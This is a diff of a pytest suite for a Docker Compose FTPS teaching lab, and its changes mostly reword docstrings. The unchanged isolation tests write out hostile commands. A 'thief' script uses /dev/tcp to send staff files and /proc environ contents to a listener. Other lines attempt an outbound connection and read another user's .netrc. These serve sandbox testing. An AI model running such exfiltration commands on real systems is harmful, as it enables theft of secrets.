@@ -1,6 +1,6 @@
-"""The classroom as teachers and learners have it: `up`, every lesson of docs/classroom.md typed in, `down`.
+"""The classroom for teachers and learners: `up`, every lesson of docs/classroom.md typed in, `down`.
 
-One test, for it is one classroom: building, starting and ending it is most of its time.
+This is one test because building, starting and ending the classroom takes most of its time.
 """
 
 from __future__ import annotations
@@ -33,14 +33,14 @@ ROOT = Path(__file__).parents[3]
 LESSONS = (ROOT / "docs/classroom.md").read_text()
 
 LEARNERS = ("anna", "ben", "carla")
-"""The class of the document."""
+"""The learners in the document."""
 
 WITH_SSH = ("-f", "compose.yaml", "-f", "compose.ssh.yaml")
 
 ANSWER_SECONDS = 120
 BUILD_SECONDS = 900
 TOLD_SECONDS = 20
-"""A host looks once in a second; nobody waits longer for what it tells."""
+"""A host checks once per second; no test waits longer for its message."""
 
 FETCH = "openssl s_client -starttls ftp -connect"
 
@@ -53,9 +53,9 @@ class Typed:
 
     Attributes:
         who: ``student`` or ``teacher``.
-        command: What is typed at the shell.
-        inside: What is typed at lftp's own prompt.
-        shown: What the document says comes of it; `…` stands for anything.
+        command: Typed at the shell.
+        inside: Typed at lftp's own prompt.
+        shown: Output according to the document; `…` stands for anything.
     """
 
     who: str
@@ -65,13 +65,13 @@ class Typed:
 
     @property
     def pattern(self) -> re.Pattern[str]:
-        """The whole output: a line of `…` is any number of lines, elsewhere it is any part of one."""
+        """A pattern for the whole output: a line of `…` matches any lines, elsewhere it matches any part of one."""
         lines = [r"(?:.*\n)*" if line == "…" else f"{_part(line)}\n" for line in self.shown]
         return re.compile("".join(lines))
 
     @property
     def script(self) -> str:
-        """For the shell; lftp reads its own commands where it would read a terminal."""
+        """Script for the shell; lftp reads its commands from the place of a terminal."""
         if not self.inside:
             return self.command
         return f"printf '%s\\n' {shlex.join(self.inside)} | {self.command}"
@@ -97,12 +97,12 @@ def typed(text: str) -> list[Typed]:
 
 
 class Classroom:
-    """A classroom under a name of its own, ended whatever happens."""
+    """A classroom with its own project name, ended in every case."""
 
     def __init__(self, compose: list[str]) -> None:
         self.project = f"ftps-lab-test-{uuid.uuid4().hex[:8]}"
         self._compose = compose
-        # Images of their own: a test takes no teacher's away. They stay, as what the next test's are made from.
+        # Own images, so that a test never removes a teacher's. They stay, and the next test builds on them.
         self._environment = {
             **os.environ,
             "COMPOSE_PROJECT_NAME": self.project,
@@ -111,7 +111,7 @@ class Classroom:
         }
 
     def compose(self, *arguments: str, timeout: float = ANSWER_SECONDS, stdin: str = "") -> tuple[int, str, str]:
-        """Exit code, output and errors."""
+        """Exit code, output and errors of a Compose command."""
         done = subprocess.run(
             [*self._compose, *arguments],
             cwd=ROOT,
@@ -125,21 +125,21 @@ class Classroom:
         return done.returncode, done.stdout, done.stderr
 
     def also(self, **variables: str) -> None:
-        """Further variables of the environment."""
+        """Add variables to the environment."""
         self._environment |= variables
 
     def must(self, *arguments: str, **more: Any) -> str:
-        """Its output, of a command that works."""
+        """Output of a command, which must succeed."""
         code, output, errors = self.compose(*arguments, **more)
         assert code == 0, f"{shlex.join(arguments)}: exit code {code}\n{output}\n{errors}"
         return output
 
     def learner(self, name: str) -> contextlib.AbstractContextManager[Student]:
-        """A learner's shell in the class, as one of many terminals."""
+        """A learner's shell in the class, one of many terminals."""
         return self._shell("exec", "-T", "class", "enter", name, "bash", "-c", "cd ~/.lftp && exec bash")
 
     def student(self, service: str = "student") -> contextlib.AbstractContextManager[Student]:
-        """A learner's shell in a container of its own."""
+        """A learner's shell in its own container."""
         return self._shell("run", "--rm", "-T", service, "bash")
 
     @contextlib.contextmanager
@@ -161,14 +161,14 @@ class Classroom:
             process.wait(ANSWER_SECONDS)
 
     def teacher(self, command: str) -> str:
-        """What is typed beside the learners: `docker compose …`, whichever Compose there is."""
+        """A command typed outside the learners' shells: `docker compose …`, with the installed Compose."""
         words = shlex.split(command)
         assert words[:2] == ["docker", "compose"], command
         unattended = {"exec": ["-T"], "logs": ["--no-color"], "run": ["-T"]}[words[2]]
         return self.must(words[2], *unattended, *words[3:])
 
     def has_openssl(self) -> bool:
-        """Whether there is the optional learner's image; not with v2, whose builder would compile it once more."""
+        """Whether the optional OpenSSL image is available; not with v2, whose builder would compile it again."""
         if self._compose != ["docker-compose"]:
             return False
         code, output, errors = self.compose("build", "student-openssl", timeout=BUILD_SECONDS)
@@ -184,7 +184,7 @@ class Classroom:
         return found
 
     def inspected(self, *, ended: bool = False) -> dict[str, Any]:
-        """What the engine says of every container, by service; those that have ended only where asked for."""
+        """The engine's data on every container, by service; ended ones only with `ended`."""
         label = f"label=com.docker.compose.project={self.project}"
         listed = ["docker", "ps", "-q", *(["-a"] if ended else []), "--filter", label]
         numbers = subprocess.check_output(listed, text=True).split()
@@ -193,13 +193,13 @@ class Classroom:
 
 
 class Student:
-    """A shell that reads commands and says when each is done."""
+    """A shell that reads commands and reports when each is done."""
 
     def __init__(self, process: subprocess.Popen[str]) -> None:
         self._process = process
 
     def type(self, script: str) -> str:
-        """What comes of it, on both streams."""
+        """Type a command; its output on both streams."""
         assert self._process.stdin is not None
         assert self._process.stdout is not None
         end = f"done-{uuid.uuid4().hex}"
@@ -215,7 +215,7 @@ class Student:
 
 @pytest.fixture(params=["docker compose", "docker-compose"])
 def classroom(request: pytest.FixtureRequest, engine: Engine) -> Iterator[Classroom]:
-    """With Compose v2, a plugin of docker, and with 1.29."""
+    """Once with Compose v2, a plugin of docker, and once with 1.29."""
     if shutil.which("docker") is None:
         pytest.skip("no docker command here (Debian: apt install docker.io)")
     compose: list[str] = request.param.split()
@@ -228,13 +228,13 @@ def classroom(request: pytest.FixtureRequest, engine: Engine) -> Iterator[Classr
     try:
         yield classroom
     finally:
-        classroom.also(CLASSROOM_SSH="127.0.0.1:2222")  # nothing is started any more: the file wants some address
+        classroom.also(CLASSROOM_SSH="127.0.0.1:2222")  # nothing starts any more, but the file needs an address
         classroom.compose(*WITH_SSH, "--profile", "student", "down", "-v", "--remove-orphans")
     assert classroom.left() == []
 
 
 def test_the_lessons_can_be_read() -> None:
-    """The document is not empty to our eyes, and each of its hosts is in a lesson."""
+    """The parser finds commands, and each host of the document is in a lesson."""
     commands = typed(LESSONS)
     assert len(commands) >= 40
     assert {command.who for command in commands} == {"student", "teacher"}
@@ -279,9 +279,9 @@ def test_the_classroom(classroom: Classroom) -> None:
             assert "welcome.txt" in student.type("echo ls | lftp example.com")
     classroom.must("stop")
     ends = {name: each["State"]["ExitCode"] for name, each in classroom.inspected(ended=True).items()}
-    # 137: it did not heed SIGTERM, and was killed. A learner's container may still be on its way out.
+    # 137: it ignored SIGTERM and was killed. A learner's container may still be ending.
     assert {name: code for name, code in ends.items() if name in HOSTS} == dict.fromkeys(HOSTS, 0)
-    classroom.must("up", "-d")  # the same containers once more, as after Ctrl-C
+    classroom.must("up", "-d")  # the same containers again, as after Ctrl-C
     with classroom.student() as student:
         student.type(f"{FETCH} vsftpd.example.com:21 | openssl x509 >mycert.crt; echo 'set ssl:ca-file mycert.crt' >rc")
         assert "welcome.txt" in student.type("echo ls | lftp vsftpd.example.com")
@@ -290,7 +290,7 @@ def test_the_classroom(classroom: Classroom) -> None:
 
 
 def prove_rights(classroom: Classroom) -> None:
-    """No way in, and no more rights than needed: what the engine says."""
+    """The engine confirms that nothing can get in and that no container has more rights than it needs."""
     found = classroom.inspected()
     assert set(found) == {*HOSTS, "student", "class", "checker"}
     for name, container in found.items():
@@ -302,19 +302,19 @@ def prove_rights(classroom: Classroom) -> None:
         assert not host["PortBindings"], name
         assert not any(container["NetworkSettings"]["Ports"].values()), name
         assert len(container["NetworkSettings"]["Networks"]) == 1, name
-        as_root = {"vsftpd": "root", "class": "", "checker": ""}  # the images of these two name no user
+        as_root = {"vsftpd": "root", "class": "", "checker": ""}  # these two images name no user
         assert (container["Config"]["User"] in {"root", ""}) is (name in as_root), name
         if name not in {"student", "checker"}:
             assert container["State"]["Health"]["Status"] == "healthy", name
 
 
 def prove_sealed(classroom: Classroom, student: Student) -> None:
-    """No way out: what a learner can do; also not to this machine, whose address an internal network usually has."""
+    """A learner cannot get out, not even to this machine, whose address an internal network usually has."""
     (network,) = classroom.inspected()["student"]["NetworkSettings"]["Networks"].values()
     machine = network["Gateway"] or network["IPAddress"].rpartition(".")[0] + ".1"
     with socket.create_server(("", 0)) as listener:
         port = listener.getsockname()[1]
-        socket.create_connection(("127.0.0.1", port), ANSWER_SECONDS).close()  # it is there
+        socket.create_connection(("127.0.0.1", port), ANSWER_SECONDS).close()  # it exists
         knocked = student.type(f"timeout 10 bash -c 'echo >/dev/tcp/{machine}/{port}' || echo no way out")
         assert knocked.endswith("no way out\n")
     assert "Read-only file system" in student.type("touch /usr/bin/x")
@@ -326,7 +326,7 @@ def prove_sealed(classroom: Classroom, student: Student) -> None:
 
 
 def prove_apart(classroom: Classroom, anna: Student) -> None:
-    """One learner sees and breaks nothing of another's, and nobody learns what is the staff's."""
+    """A learner neither sees nor breaks anything of another learner, and none sees the staff's data."""
     assert anna.type("id -un; id -G") == "anna\n2000\n"
     assert "Permission denied" in anna.type("cat /home/ben/.netrc")
     assert "Permission denied" in anna.type("ls /staff")
@@ -344,7 +344,7 @@ def prove_apart(classroom: Classroom, anna: Student) -> None:
 
 
 def prove_window(classroom: Classroom) -> None:
-    """After the lessons the window holds anna's own password, against her name, and nobody else's."""
+    """After the lessons the window shows anna's own password next to her name, and no other learner's."""
     slips = classroom.must("run", "--rm", "-T", "teacher", "learners").splitlines()[1:]
     passwords = {line.split()[0]: line.split()[1] for line in slips}
     assert tuple(passwords) == LEARNERS
@@ -361,7 +361,7 @@ def prove_window(classroom: Classroom) -> None:
 
 
 def prove_check(classroom: Classroom, anna: Student) -> None:
-    """What a learner may try, and what is down: never solved."""
+    """A learner's cheats, and a server that is down, never count as solved."""
     solved = anna.type("echo 'set ssl:ca-file \"~/.lftp/mycert.crt\"' >rc; check 3; echo $?")
     assert solved.endswith("solved\n0\n"), solved
     anna.type("echo 'set ssl:verify-certificate no' >rc; mkdir -p ~/bin; cp /bin/true ~/bin/lftp")
@@ -381,7 +381,7 @@ def prove_check(classroom: Classroom, anna: Student) -> None:
 
 
 def prove_caged(classroom: Classroom, anna: Student) -> None:
-    """An rc may run programs in the checker, and what they can reach there is sent to anna: nothing of the staff's."""
+    """An rc may run programs in the checker; they send anna everything within reach, and nothing of the staff's."""
     anna.type("socat -u TCP-LISTEN:5555,reuseaddr OPEN:/tmp/stolen,creat,append 2>/dev/null & sleep 1")
     thief = "exec 3<>/dev/tcp/class/5555; { id; cat /staff/*; cat /proc/[0-9]*/environ; ls /proc/1/fd/; } >&3 2>&3"
     anna.type(f"printf '%s\\n' {shlex.quote(thief)} >~/steal; echo '!bash ~/steal' >rc")
@@ -396,7 +396,7 @@ def prove_caged(classroom: Classroom, anna: Student) -> None:
 
 
 def prove_ssh(classroom: Classroom) -> None:
-    """A real ssh: with the slip's second password, to the host key that the teacher reads out, and no other way."""
+    """A real ssh works only with the second password on the slip and the host key that the teacher reads out."""
     if shutil.which("ssh") is None:
         pytest.skip("no ssh here (Debian: apt install openssh-client)")
     with socket.create_server(("127.0.0.1", 0)) as free:
@@ -435,7 +435,7 @@ class Door:
     port: int
 
     def fingerprint(self) -> str:
-        """Of the host key that the port shows; the first ssh takes it, as a learner does who has compared it."""
+        """Fingerprint of the port's host key; the first ssh accepts it, as a learner does after comparing it."""
         deadline = time.monotonic() + ANSWER_SECONDS
         known = self.folder / "known_hosts"
         while not (key := subprocess.run(self._scan, capture_output=True, text=True, check=False).stdout):
@@ -449,7 +449,7 @@ class Door:
         return ["ssh-keyscan", "-t", "ed25519", "-p", str(self.port), "127.0.0.1"]
 
     def ssh(self, user: str, password: str, command: str, *more: str) -> subprocess.CompletedProcess[str]:
-        """One command, or what `more` says, with this password."""
+        """Run a command with this password; `more` holds further ssh options."""
         ask = self.folder / "ask"
         ask.write_text(f"#!/bin/sh\necho {password}\n")
         ask.chmod(0o700)
@@ -468,14 +468,14 @@ class Door:
 
 
 def teach(classroom: Classroom, student: Student) -> None:
-    """Every command of docs/classroom.md, and exactly what it says comes of it."""
+    """Type every command of docs/classroom.md and compare its output exactly."""
     for each in typed(LESSONS):
         output = student.type(each.script) if each.who == "student" else eventually(classroom, each)
         assert each.pattern.fullmatch(output), f"{each.command}\n{output}\ninstead of\n" + "\n".join(each.shown)
 
 
 def eventually(classroom: Classroom, each: Typed) -> str:
-    """What a host tells goes through the engine, and may come a moment later; other commands are given once."""
+    """A host's message goes through the engine and may arrive a moment later; other commands run once."""
     output = classroom.teacher(each.command)
     deadline = time.monotonic() + TOLD_SECONDS
     while " logs " in each.command and not each.pattern.fullmatch(output) and time.monotonic() < deadline:
@@ -485,7 +485,7 @@ def eventually(classroom: Classroom, each: Typed) -> str:
 
 
 def teach_the_document(student: Student) -> None:
-    """The document word by word, with the build whose words it has: lftp 4.8.4."""
+    """The document word by word, with the build whose messages it quotes: lftp 4.8.4."""
     assert "Fatal error: Certificate verification: Not trusted" in student.type("echo ls | lftp example.com")
     student.type("echo 'set ssl:verify-certificate no' > ~/.lftp/rc")
     assert "welcome.txt" in student.type("echo ls | lftp example.com")
